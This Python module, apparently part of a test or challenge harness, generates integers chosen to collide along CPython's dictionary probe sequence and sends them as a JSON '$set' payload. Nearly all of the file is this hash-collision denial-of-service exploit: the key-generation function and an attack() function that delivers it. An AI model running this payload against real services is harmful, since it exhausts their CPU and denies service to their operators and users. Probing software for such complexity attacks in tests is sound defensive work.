"""A set of small integers whose hashes all differ, chosen so that a reader's table is searched end to end"""

from tools import send_and_wait

ENDS = ("violation",)
LIMITS = {"call_seconds": 5, "total_seconds": 7.5}
BITS = 16


def keys():
    """Half of a table of 2**BITS along the orbit of CPython's probes (Objects/dictobject.c), then others.

    The probes of these other integers meet only full slots until they walk that orbit.
    """
    size, mask = 1 << BITS, (1 << BITS) - 1
    place, slot = {}, 0
    for number in range(size // 2):
        place[slot] = number
        slot = (5 * slot + 1) & mask
    chosen, number = [], size
    while len(chosen) < size // 6:
        slot, perturb = number & mask, number
        while slot in place and perturb:
            perturb >>= 5
            slot = (5 * slot + perturb + 1) & mask
        if not perturb and place.get(slot, size) < size // 8:
            chosen.append(number)
        number += 1
    return [*place, *chosen]


def attack():
    send_and_wait('{"$set":[' + ",".join(map(str, keys())) + "]}")
